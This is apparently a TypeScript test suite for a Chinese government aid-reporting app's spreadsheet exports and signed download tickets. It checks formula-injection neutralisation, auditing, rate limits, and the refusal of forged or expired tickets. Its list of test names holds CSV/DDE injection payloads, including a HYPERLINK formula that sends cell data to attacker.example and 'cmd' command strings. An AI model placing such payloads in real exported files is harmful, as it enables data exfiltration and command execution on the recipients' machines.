import ExcelJS from 'exceljs';
import { Role } from '@wanjia/shared';
import type { DatabaseConfig } from '../src/config';
import { shanghaiDate } from '../src/core/time';
import type { Orm } from '../src/db/orm';
import { UserAccount } from '../src/modules/accounts/user-account.entity';
import { csvField, neutraliseFormula, toCsv, toXlsx, type ReportFormat, type ReportTable } from '../src/modules/analytics/analytics.export';
import { REPORT_DOWNLOAD_COSTS } from '../src/modules/analytics/analytics.routes';
import { ReportKind } from '../src/modules/analytics/analytics.types';
import { REPORT_DOWNLOAD_TICKET_TTL_SECONDS, signReportDownloadTicket } from '../src/modules/analytics/report-download-ticket';
import { AuditEntry } from '../src/modules/audit/audit-entry.entity';
import { forgetAccountStatus } from '../src/modules/auth/account-status.service';
import { createAccount, createRegionTree, tokenFor } from './support/factories';
import { createWorld } from './support/limits-world';
import { startLoggedApp, TEST_JWT_SECRET, WARN, type LoggedApp } from './support/logged-app';
import { databaseKinds, dropScratchDatabase, migratedOrm } from './support/databases';

/** What exportReport answers. */
interface ReportLinks {
  fileName: string;
  xlsxUrl: string;
  csvUrl: string;
  expiresAt: string;
}

const EXPORT_REPORT = `mutation ($kind: ReportKind!, $dimension: BreakdownDimension, $regionId: ID, $from: LocalDate, $targetGroup: TargetGroup) {
  exportReport(kind: $kind, dimension: $dimension, regionId: $regionId, from: $from, targetGroup: $targetGroup) { fileName xlsxUrl csvUrl expiresAt }
}`;

/** The links of an export, asked for with a Bearer token. */
async function exportLinks(server: LoggedApp, token: string, variables: Record<string, unknown>): Promise<ReportLinks> {
  const answer = await server.graphql<{ exportReport: ReportLinks }>(EXPORT_REPORT, variables, token);
  if (!answer.body.data?.exportReport) throw new Error(`exportReport failed: ${JSON.stringify(answer.body.errors)}`);
  return answer.body.data.exportReport;
}

/** A link with one query parameter set to another value (or removed). */
function withParameter(link: string, name: string, value: string | null): string {
  const url = new URL(link);
  if (value === null) url.searchParams.delete(name);
  else url.searchParams.set(name, value);
  return url.toString();
}

function ticketOf(link: string): string {
  return new URL(link).searchParams.get('ticket')!;
}

/** The report's own query string of a link: what its ticket names. */
function reportQueryOf(link: string): string {
  return new URL(withParameter(link, 'ticket', null)).search.slice(1);
}

/** The refusal of a plain HTTP route: its status and the problem's code and field. */
async function refusal(response: Response): Promise<{ status: number; code: string; field: string | undefined }> {
  const { error } = (await response.json()) as { error: { code: string; field?: string } };
  return { status: response.status, code: error.code, field: error.field };
}

/** The Chinese name (`filename*`) and the ASCII fallback (`filename`) of a Content-Disposition. */
function fileNamesOf(response: Response): { chinese: string; ascii: string } {
  const header = response.headers.get('content-disposition') ?? '';
  return {
    chinese: decodeURIComponent(/filename\*=UTF-8''([^;]+)/.exec(header)?.[1] ?? ''),
    ascii: /filename="([^"]*)"/.exec(header)?.[1] ?? '',
  };
}

/** Names a district administrator can write (units, regions, rounds, cadres, household heads) that a spreadsheet would run. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://attacker.example/?"&A1,"查看")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝HYPERLINK("http://attacker.example")',
  '＋1',
  '－1',
  '＠SUM(1)',
];

const PLAIN_NAMES = ['平山区民政局', '李秀兰', '210502001002', '东兴社区 (一组)', 'a=b', '1+1'];

describe('report exports', () => {
  it('CSV: every cell a spreadsheet would read as a formula is text, whatever name it comes from', () => {
    for (const name of FORMULA_NAMES) {
      expect(neutraliseFormula(name)).toBe(`'${name}`);
      const field = csvField(name);
      // Quoted only where CSV needs it; the apostrophe stays first inside the quotes.
      expect(field.replace(/^"/, '').startsWith(`'`)).toBe(true);
    }
    for (const name of PLAIN_NAMES) expect(csvField(name)).toBe(/[",]/.test(name) ? `"${name.replace(/"/g, '""')}"` : name);
  });

  it('CSV: numbers stay numbers (a negative amount is a number, not a formula), and empty stays empty', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(null)).toBe('');
    const table: ReportTable = { title: 't', headers: ['名称', '金额（元）'], rows: FORMULA_NAMES.map((name, index) => [name, -index - 0.5]) };
    const lines = toCsv(table)
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://attacker.example/?""&A1,""查看"")",-0.5`);
    expect(lines[3]).toBe(`"'-2+3+cmd|"" /C calc""!A0",-2.5`);
  });

  it('xlsx: a formula-shaped name is a plain string cell, never a formula, hyperlink or rich text; amounts are numbers', async () => {
    const table: ReportTable = {
      title: '帮扶工作分类统计',
      headers: ['分组', '编码', '帮扶资金（元）'],
      rows: [...FORMULA_NAMES, 'http://attacker.example/'].map((name, index) => [name, String(index + 1), -index - 0.25]),
    };
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    table.rows.forEach((row, index) => {
      const [name, code, amount] = [1, 2, 3].map((column) => sheet.getRow(index + 2).getCell(column));
      expect({ value: name!.value, type: name!.type, formula: name!.formula, hyperlink: name!.hyperlink }).toEqual({
        // XML reads a carriage return in text as a line feed; the cell is text either way.
        value: String(row[0]).replace(/\r/g, '\n'),
        type: ExcelJS.ValueType.String,
        formula: undefined,
        hyperlink: undefined,
      });
      expect(code!.type).toBe(ExcelJS.ValueType.String);
      expect({ value: amount!.value, type: amount!.type }).toEqual({ value: row[2], type: ExcelJS.ValueType.Number });
    });
  });
});

describe.each(databaseKinds())('report downloads on %s: audited and charged like the figure sheets', (kind) => {
  let orm: Orm;
  let database: DatabaseConfig;
  let server: LoggedApp;
  let analyst: Record<string, string>;
  let analystAccountId: number;
  /** Two downloads' worth of the query budget, and a little more: the third is refused. */
  const budget = REPORT_DOWNLOAD_COSTS[ReportKind.OVERVIEW] * 2 + 100;

  beforeAll(async () => {
    ({ orm, database } = await migratedOrm(kind, 'exports'));
    const world = await createWorld(orm);
    analyst = { authorization: `Bearer ${(await world.tokens(TEST_JWT_SECRET)).analyst}` };
    server = await startLoggedApp(orm, database, (config) => ({
      ...config,
      rateLimits: { ...config.rateLimits, enabled: true, queriesPerAccount: { points: budget, durationSeconds: 600 } },
    }));
    const answer = await server.graphql<{ me: { id: string } }>('{ me { id } }', {}, analyst.authorization.slice(7));
    analystAccountId = Number(answer.body.data!.me.id);
  });

  afterAll(async () => {
    await server?.close();
    await orm?.close(true);
    if (database) await dropScratchDatabase(database);
  });

  /** A URL of the report route as typed by hand (no ticket): what the parameter checks see first. */
  const download = (search: string) => fetch(`${server.url}/exports/report.csv?${search}`, { headers: analyst });
  /** Exports the report and downloads it in the given format, as a browser opens the link. */
  const exportAndDownload = async (format: ReportFormat, variables: Record<string, unknown>) => {
    const links = await exportLinks(server, analyst.authorization!.slice(7), { kind: 'OVERVIEW', ...variables });
    return fetch(format === 'xlsx' ? links.xlsxUrl : links.csvUrl, { headers: analyst });
  };
  const downloadsAudited = () => orm.em.fork().find(AuditEntry, { operation: 'downloadReport' }, { orderBy: { id: 'asc' }, populate: ['actor'] });

  it('reads every parameter (a thousand before the slice do not hide it) and refuses one given twice, naming it', async () => {
    const padding = Array.from({ length: 1_000 }, (_, index) => `p${index}=1`).join('&');
    const hidden = await download(`kind=OVERVIEW&${padding}&from=yesterday`);
    expect([hidden.status, ((await hidden.json()) as { error: { field: string } }).error.field]).toEqual([400, 'from']);
    const twice = await download('kind=OVERVIEW&regionId=1&regionId=2');
    expect([twice.status, ((await twice.json()) as { error: { field: string } }).error.field]).toEqual([400, 'regionId']);
    // Refused requests cost nothing and leave no download in the audit trail.
    expect(await downloadsAudited()).toHaveLength(0);
  });

  it('audits each download (who, which report, format, slice) and charges its figure sheet’s cost: the third is refused with 429', async () => {
    const first = await exportAndDownload('csv', { from: '2026-01-01' });
    expect(first.status).toBe(200);
    const xlsx = await exportAndDownload('xlsx', {});
    expect(xlsx.status).toBe(200);
    const entries = await downloadsAudited();
    expect(
      entries.map((entry) => ({ actor: entry.actor?.id, entityId: entry.entityId, regionPath: entry.regionPath, changes: JSON.parse(entry.changes!) })),
    ).toEqual([
      {
        actor: analystAccountId,
        entityId: 'OVERVIEW',
        regionPath: '210500000000/',
        changes: { format: 'csv', kind: 'OVERVIEW', dimension: null, from: '2026-01-01' },
      },
      { actor: analystAccountId, entityId: 'OVERVIEW', regionPath: '210500000000/', changes: { format: 'xlsx', kind: 'OVERVIEW', dimension: null } },
    ]);

    const third = await exportAndDownload('csv', {});
    expect(third.status).toBe(429);
    expect(Number(third.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(((await third.json()) as { error: { code: string } }).error.code).toBe('TOO_MANY_REQUESTS');
    expect(await downloadsAudited()).toHaveLength(2);
    expect(server.logs).toContainEqual(expect.objectContaining({ level: WARN, budget: 'queriesPerAccount', accountId: analystAccountId }));
    // The same budget as the analyst's queries: a figure sheet over GraphQL is refused now too.
    const sheet = await server.graphql('{ campaignOverview { figures { measure value } } }', {}, analyst.authorization.slice(7));
    expect(sheet.body.errors?.[0]?.extensions?.code).toBe('TOO_MANY_REQUESTS');
  });
});

describe.each(databaseKinds())('report download tickets on %s: links a browser opens, for their caller only', (kind) => {
  const PASSWORD = 'tickets-analyst-password';
  let orm: Orm;
  let database: DatabaseConfig;
  let server: LoggedApp;
  let analyst: UserAccount;
  let analystToken: string;
  let otherAnalystToken: string;
  let districtAnalyst: UserAccount;
  let regions: Awaited<ReturnType<typeof createRegionTree>>;

  beforeAll(async () => {
    ({ orm, database } = await migratedOrm(kind, 'tickets'));
    const em = orm.em.fork();
    regions = await createRegionTree(em);
    analyst = await createAccount(em, { role: Role.ANALYST, scopeRegion: regions.city, username: 'tickets-analyst', password: PASSWORD });
    const otherAnalyst = await createAccount(em, { role: Role.ANALYST, scopeRegion: regions.city, username: 'tickets-other-analyst', password: PASSWORD });
    districtAnalyst = await createAccount(em, { role: Role.ANALYST, scopeRegion: regions.pingshan, username: 'tickets-district-analyst' });
    analystToken = await tokenFor(analyst, TEST_JWT_SECRET);
    otherAnalystToken = await tokenFor(otherAnalyst, TEST_JWT_SECRET);
    server = await startLoggedApp(orm, database);
  });

  afterAll(async () => {
    await server?.close();
    await orm?.close(true);
    if (database) await dropScratchDatabase(database);
  });

  const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
  const downloadsAudited = () => orm.em.fork().count(AuditEntry, { operation: 'downloadReport' });
  /** A ticket signed by the module itself, as exportReport would sign it, for what the test names. */
  const ticketFor = async (link: string, grant: Partial<Parameters<typeof signReportDownloadTicket>[0]> = {}, now = new Date()) =>
    (
      await signReportDownloadTicket(
        { accountId: analyst.id, sessionGeneration: 0, format: link.includes('/report.xlsx?') ? 'xlsx' : 'csv', query: reportQueryOf(link), ...grant },
        TEST_JWT_SECRET,
        now,
      )
    ).ticket;

  it('answers absolute links on this server with a ticket each, that expire ten minutes on; the files read back with their Chinese names', async () => {
    const before = Date.now();
    const links = await exportLinks(server, analystToken, { kind: 'OVERVIEW', from: '2026-01-01' });
    const after = Date.now();
    const days = [shanghaiDate(new Date(before)), shanghaiDate(new Date(after))];

    expect(links.xlsxUrl.startsWith(`${server.url}/exports/report.xlsx?kind=OVERVIEW&from=2026-01-01&ticket=`)).toBe(true);
    expect(links.csvUrl.startsWith(`${server.url}/exports/report.csv?kind=OVERVIEW&from=2026-01-01&ticket=`)).toBe(true);
    // The ticket is no access token: the caller's token is nowhere in the links.
    expect(links.xlsxUrl).not.toContain(analystToken);
    const expiresAt = Date.parse(links.expiresAt);
    expect(expiresAt).toBeGreaterThanOrEqual(Math.floor(before / 1000) * 1000 + REPORT_DOWNLOAD_TICKET_TTL_SECONDS * 1000);
    expect(expiresAt).toBeLessThanOrEqual(after + REPORT_DOWNLOAD_TICKET_TTL_SECONDS * 1000);
    expect(REPORT_DOWNLOAD_TICKET_TTL_SECONDS).toBe(600);
    const claims = JSON.parse(Buffer.from(ticketOf(links.xlsxUrl).split('.')[1]!, 'base64url').toString('utf8')) as Record<string, unknown>;
    expect(claims).toEqual(
      expect.objectContaining({
        sub: String(analyst.id),
        aud: 'wanjia-report-download',
        gen: 0,
        fmt: 'xlsx',
        q: 'kind=OVERVIEW&from=2026-01-01',
        exp: expiresAt / 1000,
      }),
    );
    expect(days.map((day) => `本溪市-工作概况-${day}`)).toContain(links.fileName);

    const xlsx = await fetch(links.xlsxUrl, { headers: bearer(analystToken) });
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toContain('spreadsheetml');
    expect(fileNamesOf(xlsx)).toEqual({ chinese: `${links.fileName}.xlsx`, ascii: `wanjia-210500000000-overview-${links.fileName.slice(-10)}.xlsx` });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsx.arrayBuffer()) as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe(links.fileName);
    expect(sheet.getRow(1).values).toEqual([undefined, '指标', '数值']);
    expect(sheet.rowCount).toBeGreaterThan(10);

    const csv = await fetch(links.csvUrl, { headers: bearer(analystToken) });
    expect(csv.status).toBe(200);
    expect(fileNamesOf(csv)).toEqual({ chinese: `${links.fileName}.csv`, ascii: `wanjia-210500000000-overview-${links.fileName.slice(-10)}.csv` });
    const text = Buffer.from(await csv.arrayBuffer()).toString('utf8');
    expect(text.startsWith('\uFEFF指标,数值\r\n')).toBe(true);
    expect(text).toContain('\r\n走访帮扶次数,0\r\n');

    // A breakdown's names carry its dimension, and the region asked for.
    const breakdown = await exportLinks(server, analystToken, { kind: 'BREAKDOWN', dimension: 'REGION_CHILDREN', regionId: String(regions.pingshan.id) });
    expect(breakdown.fileName).toBe(`平山区-分类统计-按下级区划-${breakdown.fileName.slice(-10)}`);
    const table = await fetch(breakdown.csvUrl, { headers: bearer(analystToken) });
    expect(table.status).toBe(200);
    expect(fileNamesOf(table)).toEqual({
      chinese: `${breakdown.fileName}.csv`,
      ascii: `wanjia-210502000000-breakdown-region-children-${breakdown.fileName.slice(-10)}.csv`,
    });
    expect(Buffer.from(await table.arrayBuffer()).toString('utf8')).toContain('\r\n站前街道,210502001000,');

    const entries = await orm.em.fork().find(AuditEntry, { operation: 'downloadReport' }, { orderBy: { id: 'asc' }, populate: ['actor'] });
    expect(entries.map((entry) => [entry.actor?.id, JSON.parse(entry.changes!).format])).toEqual([
      [analyst.id, 'xlsx'],
      [analyst.id, 'csv'],
      [analyst.id, 'csv'],
    ]);
  });

  it('refuses a ticket of one account to another (403 naming ticket), and one of an earlier sign-in of the same account', async () => {
    const links = await exportLinks(server, analystToken, { kind: 'OVERVIEW' });
    const audited = await downloadsAudited();
    expect(await refusal(await fetch(links.csvUrl, { headers: bearer(otherAnalystToken) }))).toEqual({ status: 403, code: 'FORBIDDEN', field: 'ticket' });
    expect(await refusal(await fetch(links.xlsxUrl, { headers: bearer(otherAnalystToken) }))).toEqual({ status: 403, code: 'FORBIDDEN', field: 'ticket' });

    // A password change moves the account to a new session generation: the old links die with the old sign-in.
    const em = orm.em.fork();
    await em.nativeUpdate(UserAccount, analyst.id, { sessionGeneration: 1 });
    forgetAccountStatus(analyst.id);
    try {
      const signedInAgain = await tokenFor(
        { accountId: analyst.id, role: Role.ANALYST, scopeRegionId: regions.city.id, scopePath: regions.city.path, cadreId: null, sessionGeneration: 1 },
        TEST_JWT_SECRET,
      );
      expect(await refusal(await fetch(links.csvUrl, { headers: bearer(signedInAgain) }))).toEqual({ status: 403, code: 'FORBIDDEN', field: 'ticket' });
      const renewed = await exportLinks(server, signedInAgain, { kind: 'OVERVIEW' });
      expect((await fetch(renewed.csvUrl, { headers: bearer(signedInAgain) })).status).toBe(200);
    } finally {
      await em.nativeUpdate(UserAccount, analyst.id, { sessionGeneration: 0 });
      forgetAccountStatus(analyst.id);
    }
    expect(await downloadsAudited()).toBe(audited + 1);
  });

  it('refuses a missing, forged, altered or expired ticket (401 naming ticket), and a ticket is never an access token nor the reverse', async () => {
    const links = await exportLinks(server, analystToken, { kind: 'OVERVIEW' });
    const audited = await downloadsAudited();
    const unauthenticated = { status: 401, code: 'UNAUTHENTICATED', field: 'ticket' };
    const download = (link: string) => fetch(link, { headers: bearer(analystToken) });

    expect(await refusal(await download(withParameter(links.csvUrl, 'ticket', null)))).toEqual(unauthenticated);
    expect(await refusal(await download(withParameter(links.csvUrl, 'ticket', '')))).toEqual(unauthenticated);
    expect(await refusal(await download(withParameter(links.csvUrl, 'ticket', 'not-a-ticket')))).toEqual(unauthenticated);
    // Its claims rewritten (another report), the signature kept.
    const [header, payload, signature] = ticketOf(links.csvUrl).split('.') as [string, string, string];
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as Record<string, unknown>;
    const rewritten = Buffer.from(JSON.stringify({ ...claims, q: 'kind=COVERAGE_GAPS' })).toString('base64url');
    expect(await refusal(await download(`${server.url}/exports/report.csv?kind=COVERAGE_GAPS&ticket=${header}.${rewritten}.${signature}`))).toEqual(
      unauthenticated,
    );
    // One character of the signature changed.
    const flipped = `${signature.slice(0, 10)}${signature[10] === 'A' ? 'B' : 'A'}${signature.slice(11)}`;
    expect(await refusal(await download(withParameter(links.csvUrl, 'ticket', `${header}.${payload}.${flipped}`)))).toEqual(unauthenticated);
    // Signed with another secret.
    const foreign = await signReportDownloadTicket(
      { accountId: analyst.id, sessionGeneration: 0, format: 'csv', query: reportQueryOf(links.csvUrl) },
      'another-secret',
    );
    expect(await refusal(await download(withParameter(links.csvUrl, 'ticket', foreign.ticket)))).toEqual(unauthenticated);

    // Issued eleven minutes ago by the module's own signer: expired a minute ago, and it says so.
    const stale = await ticketFor(links.csvUrl, {}, new Date(Date.now() - 11 * 60_000));
    const expired = await download(withParameter(links.csvUrl, 'ticket', stale));
    const expiredBody = (await expired.json()) as { error: { code: string; field: string; message: string } };
    expect([expired.status, expiredBody.error.code, expiredBody.error.field]).toEqual([401, 'UNAUTHENTICATED', 'ticket']);
    expect(expiredBody.error.message).toContain('过期');
    // The same signer now: accepted (what was refused was only its age).
    expect((await download(withParameter(links.csvUrl, 'ticket', await ticketFor(links.csvUrl)))).status).toBe(200);

    // The caller's access token as a ticket: refused; a ticket as an access token: refused.
    expect(await refusal(await download(withParameter(links.csvUrl, 'ticket', analystToken)))).toEqual(unauthenticated);
    const asBearer = await server.graphql('{ me { id } }', {}, ticketOf(links.csvUrl));
    expect(asBearer.body.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    expect(await refusal(await fetch(links.csvUrl, { headers: bearer(ticketOf(links.csvUrl)) }))).toEqual(
      expect.objectContaining({ status: 401, code: 'UNAUTHENTICATED' }),
    );
    // A ticket given twice is refused, naming it.
    expect(await refusal(await download(`${links.csvUrl}&ticket=${ticketOf(links.csvUrl)}`))).toEqual({ status: 400, code: 'BAD_USER_INPUT', field: 'ticket' });

    expect(await downloadsAudited()).toBe(audited + 1);
  });

  it('refuses a ticket for other report parameters or the other format (403 naming ticket): each parameter is bound', async () => {
    const links = await exportLinks(server, analystToken, {
      kind: 'BREAKDOWN',
      dimension: 'TARGET_GROUP',
      regionId: String(regions.pingshan.id),
      from: '2026-01-01',
    });
    const audited = await downloadsAudited();
    const forbidden = { status: 403, code: 'FORBIDDEN', field: 'ticket' };
    const download = (link: string) => fetch(link, { headers: bearer(analystToken) });
    const changed = [
      withParameter(links.csvUrl, 'kind', 'OVERVIEW'),
      withParameter(links.csvUrl, 'dimension', 'UNIT'),
      withParameter(links.csvUrl, 'dimension', null),
      withParameter(links.csvUrl, 'regionId', String(regions.city.id)),
      withParameter(links.csvUrl, 'regionId', null),
      withParameter(links.csvUrl, 'from', '2025-01-01'),
      withParameter(links.csvUrl, 'to', '2026-12-31'),
      withParameter(links.csvUrl, 'targetGroup', 'HARDSHIP'),
      // The csv's ticket on the xlsx link.
      links.csvUrl.replace('/report.csv?', '/report.xlsx?'),
      // A thousand parameters do not hide one the ticket does not name.
      `${links.csvUrl}&${Array.from({ length: 1_000 }, (_, index) => `p${index}=1`).join('&')}&to=2026-12-31`,
    ];
    for (const link of changed) expect([link, await refusal(await download(link))]).toEqual([link, forbidden]);
    // The parameters in another order are the same report.
    const reordered = `${server.url}/exports/report.csv?${[...new URL(links.csvUrl).searchParams]
      .reverse()
      .map(([name, value]) => `${name}=${encodeURIComponent(value)}`)
      .join('&')}`;
    expect((await download(reordered)).status).toBe(200);
    expect(await downloadsAudited()).toBe(audited + 1);
  });

  it('grants nothing alone: no caller is 401, and the report is computed within the caller’s scope at download', async () => {
    const links = await exportLinks(server, analystToken, { kind: 'OVERVIEW' });
    expect(await refusal(await fetch(links.xlsxUrl))).toEqual(expect.objectContaining({ status: 401, code: 'UNAUTHENTICATED' }));

    // A district analyst cannot export the neighbouring district, and a ticket for it (signed for them) does not open it either.
    const districtToken = await tokenFor(districtAnalyst, TEST_JWT_SECRET);
    const outside = await server.graphql(EXPORT_REPORT, { kind: 'OVERVIEW', regionId: String(regions.xihu.id) }, districtToken);
    expect(outside.body.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const link = `${server.url}/exports/report.csv?kind=OVERVIEW&regionId=${regions.xihu.id}`;
    const ticket = await ticketFor(link, { accountId: districtAnalyst.id });
    const audited = await downloadsAudited();
    const refused = await refusal(await fetch(`${link}&ticket=${ticket}`, { headers: bearer(districtToken) }));
    expect(refused).toEqual({ status: 403, code: 'FORBIDDEN', field: undefined });
    expect(await downloadsAudited()).toBe(audited);
  });

  it('opens from the IDE session: the cookie is the caller of the export and of the link the browser opens; signing out ends the link', async () => {
    /** Signs in on the IDE's form: the access cookie (Path=/, what a GET of the link carries) and both cookies for /ide/session. */
    const ideSignIn = async (username: string) => {
      const answer = await fetch(`${server.url}/ide/session`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' },
        body: JSON.stringify({ username, password: PASSWORD }),
      });
      expect(answer.status).toBe(200);
      const cookies = answer.headers.getSetCookie().map((line) => line.split(';')[0]!);
      return { access: cookies.find((cookie) => cookie.startsWith('wanjia_ide_access='))!, all: cookies.join('; ') };
    };
    const session = await ideSignIn('tickets-analyst');
    const exported = await server.post<{ exportReport: ReportLinks }>(
      { query: EXPORT_REPORT, variables: { kind: 'OVERVIEW' } },
      { cookie: session.access, 'sec-fetch-site': 'same-origin' },
    );
    const links = exported.body.data!.exportReport;
    expect(links.xlsxUrl.startsWith(`${server.url}/exports/report.xlsx?kind=OVERVIEW&ticket=`)).toBe(true);

    // Clicked in the IDE (same-origin) and pasted into the address bar (none): the cookie alone opens it.
    const xlsx = await fetch(links.xlsxUrl, { headers: { cookie: session.access, 'sec-fetch-site': 'same-origin' } });
    expect(xlsx.status).toBe(200);
    expect(fileNamesOf(xlsx).chinese).toBe(`${links.fileName}.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsx.arrayBuffer()) as ArrayBuffer);
    expect(workbook.worksheets[0]!.getRow(1).values).toEqual([undefined, '指标', '数值']);
    const csv = await fetch(links.csvUrl, { headers: { cookie: session.access, 'sec-fetch-site': 'none' } });
    expect(csv.status).toBe(200);
    expect(
      Buffer.from(await csv.arrayBuffer())
        .toString('utf8')
        .startsWith('\uFEFF指标,数值\r\n'),
    ).toBe(true);

    // Another site linking to it gets no caller; another account's IDE session is not this ticket's caller.
    const crossSite = await fetch(links.csvUrl, { headers: { cookie: session.access, 'sec-fetch-site': 'cross-site' } });
    expect(await refusal(crossSite)).toEqual(expect.objectContaining({ status: 401, code: 'UNAUTHENTICATED' }));
    const other = await ideSignIn('tickets-other-analyst');
    expect(await refusal(await fetch(links.csvUrl, { headers: { cookie: other.access, 'sec-fetch-site': 'same-origin' } }))).toEqual({
      status: 403,
      code: 'FORBIDDEN',
      field: 'ticket',
    });

    // Signed out, the link is dead although its ticket has minutes left.
    const end = await fetch(`${server.url}/ide/session/end`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin', cookie: session.all },
      body: '{}',
    });
    expect(end.status).toBe(204);
    const afterSignOut = await fetch(links.csvUrl, { headers: { cookie: session.access, 'sec-fetch-site': 'same-origin' } });
    expect(await refusal(afterSignOut)).toEqual(expect.objectContaining({ status: 401, code: 'UNAUTHENTICATED' }));
  });
});
